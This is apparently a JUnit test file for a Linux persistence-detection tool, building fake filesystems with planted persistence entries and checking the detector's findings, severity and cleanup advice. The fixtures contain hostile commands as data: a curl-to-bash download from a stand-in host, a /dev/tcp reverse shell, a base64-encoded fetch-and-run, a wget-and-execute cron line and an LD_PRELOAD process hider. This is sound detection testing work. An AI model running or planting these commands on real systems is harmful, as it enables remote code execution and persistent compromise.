package dev.ferret.detect.persistence;

import dev.ferret.data.rules.Golden;
import dev.ferret.collect.linux.persistence.Fixture;
import dev.ferret.data.rules.RuleBook;
import dev.ferret.detect.Detector;
import dev.ferret.model.Finding;
import dev.ferret.model.PersistenceEntry;
import dev.ferret.model.Severity;
import dev.ferret.model.Snapshot;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static dev.ferret.detect.persistence.ThreatCasesTest.atLeast;
import static dev.ferret.detect.persistence.ThreatCasesTest.dump;
import static dev.ferret.detect.persistence.ThreatCasesTest.evidence;
import static dev.ferret.detect.persistence.ThreatCasesTest.one;
import static dev.ferret.detect.persistence.ThreatCasesTest.rule;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class PersistenceDetectorsTest {
    @TempDir
    Path root;

    @Test
    void caseOneVariantsAsThePlantedScriptsOftenRead() {
        Fixture f = new Fixture(root)
                .file("/etc/.sh", "\u007fELF")
                .file("/etc/spts", "\u007fELF")
                .file("/etc/profile.d/php.sh", "#!/bin/sh\ncp -f /etc/.sh /tmp/.php >/dev/null 2>&1\n"
                        + "/tmp/.php >/dev/null 2>&1 &\nrm -f /tmp/.php\n")
                .file("/etc/profile.d/supervisor.sh", "#!/bin/sh\npgrep -f supervisord >/dev/null || "
                        + "/usr/bin/supervisord -c /etc/.supervisor/supervisord.conf >/dev/null 2>&1\n")
                .file("/etc/.supervisor/supervisord.conf", "[supervisord]\nlogfile=/tmp/.supervisord.log\n\n"
                        + "[include]\nfiles = /etc/.supervisor/conf.d/*.conf\n")
                .file("/etc/.supervisor/conf.d/123.conf", "[program:123]\ncommand=/etc/spts\n"
                        + "stdout_logfile=/etc/.supervisor/123.log\n")
                .file("/var/spool/cron/root", "*/10 * * * * cp -f /etc/.sh /tmp/.sh && /tmp/.sh && rm -f /tmp/.sh\n");
        List<Finding> findings = Fixture.detect(f.collectAll());
        Finding php = one(findings, "linux.persistence.copy-run-delete", "/etc/profile.d/php.sh", 2);
        atLeast(Severity.HIGH, php);
        assertTrue(php.response().stream().anyMatch(r -> r.startsWith("remove lines 2-4 of /etc/profile.d/php.sh")));
        atLeast(Severity.HIGH, one(findings, "linux.persistence.copy-run-delete", "/var/spool/cron/root", 1));
        atLeast(Severity.HIGH, one(findings, "linux.persistence.supervisord-program", "/etc/.supervisor/conf.d/123.conf", 2));
        Finding config = rule(findings, "linux.persistence.supervisord-hidden-config").get(0);
        atLeast(Severity.HIGH, config);
        assertTrue(evidence(config, "/etc/profile.d/supervisor.sh:2"), dump(List.of(config)));
        assertTrue(rule(findings, "linux.persistence.suspicious-path").isEmpty(),
                "no second finding for lines another rule explains:\n" + dump(findings));
    }

    @Test
    void cleaningUpTempFilesIsAtMostAWeakHint() {
        Fixture f = new Fixture(root).file("/etc/cron.d/cleanup",
                "0 4 * * * root rm -rf /tmp/sess_* /var/tmp/cache/old >/dev/null 2>&1\n"
                        + "0 5 * * * root /usr/bin/find /tmp/ -mtime +7 -delete\n").allModifiedAt(Fixture.OLD);
        List<Finding> findings = Fixture.detect(f.collectAll());
        assertTrue(findings.stream().allMatch(x -> x.severity().compareTo(Severity.LOW) <= 0), dump(findings));
        assertTrue(findings.stream().allMatch(x -> x.response().stream().noneMatch(r -> r.startsWith("quarantine /tmp/ "))),
                "never quarantine a directory or a glob:\n" + dump(findings));
    }

    @Test
    void runningFromSharedMemoryIsHigh() {
        Fixture f = new Fixture(root).file("/etc/systemd/system/dbus-helper.service",
                "[Service]\nExecStart=/dev/shm/.x/kworker -B\nRestart=always\n");
        Finding finding = one(Fixture.detect(f.collectAll()), "linux.persistence.suspicious-path",
                "/etc/systemd/system/dbus-helper.service", 2);
        atLeast(Severity.HIGH, finding);
        assertTrue(finding.techniques().contains("T1543.002"));
        assertTrue(finding.response().contains("systemctl disable --now dbus-helper.service"), finding.response().toString());
    }

    @Test
    void packageShippedUnitsWeighLessForPathHints() {
        String unit = "[Service]\nExecStart=/var/tmp/agent/run\n";
        Fixture f = new Fixture(root).file("/usr/lib/systemd/system/agent.service", unit)
                .file("/etc/systemd/system/agent2.service", unit);
        List<Finding> findings = Fixture.detect(f.collectAll());
        Finding vendor = one(findings, "linux.persistence.suspicious-path", "/usr/lib/systemd/system/agent.service", 2);
        Finding admin = one(findings, "linux.persistence.suspicious-path", "/etc/systemd/system/agent2.service", 2);
        assertTrue(vendor.score() < admin.score(), vendor.score() + " vs " + admin.score());
        assertTrue(vendor.response().stream().anyMatch(r -> r.contains("dpkg -S")), vendor.response().toString());
    }

    @Test
    @Golden({"linux.persistence.decode-exec", "linux.persistence.reverse-shell"})
    void downloadAndExecuteIsHighEvenInAPackageUnitAndReverseShellsAndDecoding() {
        Fixture f = new Fixture(root)
                .file("/usr/lib/systemd/system/upd.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://evil.example/x | bash'\n")
                .file("/etc/rc.local", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\nexit 0\n")
                .file("/home/bob/.bashrc", "echo Y3VybCBodHRwOi8vMS4yLjMuNC94IHwgc2g= | base64 -d | sh\n")
                .file("/etc/passwd", "bob:x:1000:1000::/home/bob:/bin/bash\n");
        List<Finding> findings = Fixture.detect(f.collectAll());
        atLeast(Severity.HIGH, one(findings, "linux.persistence.download-exec", "/usr/lib/systemd/system/upd.service", 2));
        Finding reverse = one(findings, "linux.persistence.reverse-shell", "/etc/rc.local", 2);
        atLeast(Severity.HIGH, reverse);
        assertTrue(reverse.techniques().contains("T1037.004"));
        Finding decode = one(findings, "linux.persistence.decode-exec", "/home/bob/.bashrc", 1);
        atLeast(Severity.HIGH, decode);
        assertEquals("bob", decode.persistence().user());
        assertTrue(decode.response().stream().anyMatch(r -> r.startsWith("remove line 1 of /home/bob/.bashrc")));
    }

    @Test
    @Golden("linux.persistence.ld-preload-profile")
    void preloadInProfilesIsJudgedByWhereTheLibraryLives() {
        Fixture f = new Fixture(root)
                .file("/etc/environment", "LD_PRELOAD=/usr/local/lib/.cache/libx.so\n")
                .file("/etc/profile.d/db.sh", "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n");
        List<Finding> findings = Fixture.detect(f.collectAll());
        atLeast(Severity.HIGH, one(findings, "linux.persistence.ld-preload-profile", "/etc/environment", 1));
        Finding jemalloc = one(findings, "linux.persistence.ld-preload-profile", "/etc/profile.d/db.sh", 1);
        assertEquals(Severity.LOW, jemalloc.severity(), dump(List.of(jemalloc)));
    }

    @Test
    @Golden("linux.persistence.ld-preload-process")
    void ldPreloadInProcessEnvironments() {
        Snapshot s = new Fixture(root).file("/usr/local/lib/libprocesshider.so", "\u007fELF").snapshot();
        s.addProcesses(List.of(
                Fixture.process(100, "sshd", List.of("/usr/sbin/sshd"), Map.of("LD_PRELOAD", "/usr/local/lib/libprocesshider.so")),
                Fixture.process(101, "bash", List.of("-bash"), Map.of("LD_PRELOAD", "/usr/local/lib/libprocesshider.so")),
                Fixture.process(200, "mysqld", List.of("/usr/sbin/mysqld"),
                        Map.of("LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")),
                Fixture.process(300, "cat", List.of("cat"), Map.of())));
        Detector d = new ProcessPreloadDetector();
        assertEquals(Set.of(dev.ferret.scan.Area.PROCESSES), RuleBook.builtIn().areasOf(d.id()));
        List<Finding> findings = d.detect(s, Fixture.context());
        assertEquals(2, findings.size(), dump(findings));
        Finding hider = findings.stream().filter(x -> x.process().pid() == 100).findFirst().orElseThrow();
        atLeast(Severity.HIGH, hider);
        assertEquals("/usr/local/lib/libprocesshider.so", hider.file().path());
        assertTrue(evidence(hider, "100 (sshd), 101 (bash)"), dump(List.of(hider)));
        Finding jemalloc = findings.stream().filter(x -> x.process().pid() == 200).findFirst().orElseThrow();
        assertEquals(Severity.LOW, jemalloc.severity());
        assertTrue(new ProcessPreloadDetector().detect(new Fixture(root).snapshot(), Fixture.context()).isEmpty(),
                "offline: no processes, no findings");
    }

    @Test
    void legitimateForcedCommandAndRecentlyChangedFilesAloneStayQuiet() {
        Fixture f = new Fixture(root)
                .file("/root/.ssh/authorized_keys", "command=\"/usr/bin/rrsync -ro /srv/backup/\",restrict ssh-ed25519 "
                        + dev.ferret.collect.linux.persistence.Scenarios.blob("b") + " backup@nas\n")
                .file("/etc/cron.d/certbot", "0 */12 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew\n");
        List<Finding> findings = Fixture.detect(f.collectAll());
        assertTrue(rule(findings, "linux.persistence.ssh-key-command").isEmpty(), dump(findings));
        assertTrue(findings.stream().allMatch(x -> x.severity().compareTo(Severity.LOW) <= 0), dump(findings));
    }

    @Test
    void hiddenCronFileIsReportedEvenWithAnInnocentCommand() {
        Fixture f = new Fixture(root).file("/etc/cron.d/.syslog", "* * * * * root /usr/bin/true\n");
        Finding finding = one(Fixture.detect(f.collectAll()), "linux.persistence.suspicious-path", "/etc/cron.d/.syslog", 1);
        atLeast(Severity.MEDIUM, finding);
    }

    @Test
    void everyDetectorHasAStableIdAndArea() {
        for (Detector d : PersistenceDetectors.all()) {
            assertTrue(d.id().startsWith("linux.persistence."), d.id());
            assertFalse(RuleBook.builtIn().areasOf(d.id()).isEmpty());
        }
        assertEquals(PersistenceDetectors.all().size(),
                PersistenceDetectors.all().stream().map(Detector::id).distinct().count());
    }

    @Test
    void shellParsingFollowsDirectoriesQuotesAndInlineScripts() {
        List<ShellCommands.Command> cs = ShellCommands.parse(
                "cd /bin 2>/dev/null; ./-bash -c 'a; b' && nohup sh -c \"cp /x /tmp/y; /tmp/y\" >/dev/null 2>&1 &\n"
                        + "# comment /tmp/z\nif [ -x /a ]; then sudo -u bob /opt/b; fi\n", 1);
        assertEquals(List.of("cd", "/bin"), cs.get(0).words());
        assertEquals(List.of("./-bash", "-c", "a; b"), cs.get(1).words());
        assertEquals(List.of("cp", "/x", "/tmp/y"), cs.get(2).words(), "sh -c expanded");
        assertEquals(List.of("/tmp/y"), ShellCommands.executed(cs.get(3)));
        ShellCommands.Command sudo = cs.stream().filter(c -> c.words().contains("/opt/b")).findFirst().orElseThrow();
        assertEquals(3, sudo.line());
        assertEquals(List.of("/opt/b"), ShellCommands.executed(sudo));
        assertEquals("/bin/-bash", ShellCommands.resolve("./-bash", "/bin"));
        assertEquals("/etc/x", ShellCommands.normalize("/tmp/../etc/./x"));
    }

    @Test
    void copyRunDeleteNeedsAllThreeSteps() {
        PersistenceEntry copyAndRun = new PersistenceEntry("cron", "/etc/crontab", 3, "root",
                "cp /opt/a /tmp/a && /tmp/a", null, List.of());
        PersistenceEntry glob = new PersistenceEntry("cron", "/etc/crontab", 4, "root",
                "cat /usr/lib/.x > /dev/shm/k; chmod +x /dev/shm/k; /dev/shm/k; rm -f /dev/shm/k*", null, List.of());
        PersistenceEntry download = new PersistenceEntry("cron", "/etc/crontab", 5, "root",
                "wget -q http://1.2.3.4/m -O /tmp/m && sh /tmp/m; rm -f /tmp/m", null, List.of());
        assertTrue(CopyRunDeleteDetector.matches(copyAndRun).isEmpty());
        assertEquals("/dev/shm/k", CopyRunDeleteDetector.matches(glob).get(0).ran());
        assertEquals(List.of("/usr/lib/.x"), CopyRunDeleteDetector.matches(glob).get(0).sources());
        assertEquals("/tmp/m", CopyRunDeleteDetector.matches(download).get(0).ran());
    }
}
